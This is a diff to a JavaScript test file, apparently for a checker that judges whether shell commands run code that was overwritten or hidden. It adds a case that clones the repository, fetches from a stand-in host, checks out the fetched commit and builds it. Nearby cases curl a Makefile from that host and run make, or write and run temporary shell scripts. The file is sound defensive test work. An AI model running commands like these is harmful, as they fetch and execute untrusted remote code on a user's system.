@@ -64,6 +64,10 @@ describe('what was written over it, or hidden, is not', () => {
     ['behind a file that may not open', "cd src 2> /opt/log && echo 'echo hi' > /tmp/a.sh; bash /tmp/a.sh"],
     ['shell text in a file without a name', "f=$(mktemp); echo 'echo hi' > $f; bash $f"],
     ['a tree of somebody else', 'git worktree add /tmp/wt origin/x && make -C /tmp/wt'],
+    [
+      'a copy switched to what was fetched',
+      'git clone . /tmp/r && cd /tmp/r && git fetch https://x.test/r && git checkout FETCH_HEAD && make',
+    ],
     ['a clone from elsewhere', 'git clone https://x.test/r /tmp/r && make -C /tmp/r'],
     ['a copy over a folder from elsewhere', 'cp -r /opt/x/. /tmp/c && cp -r . /tmp/c && make -C /tmp/c'],
     ['a file brought into a copy', 'cp -r . /tmp/c && curl -so /tmp/c/Makefile https://x.test/m && make -C /tmp/c'],
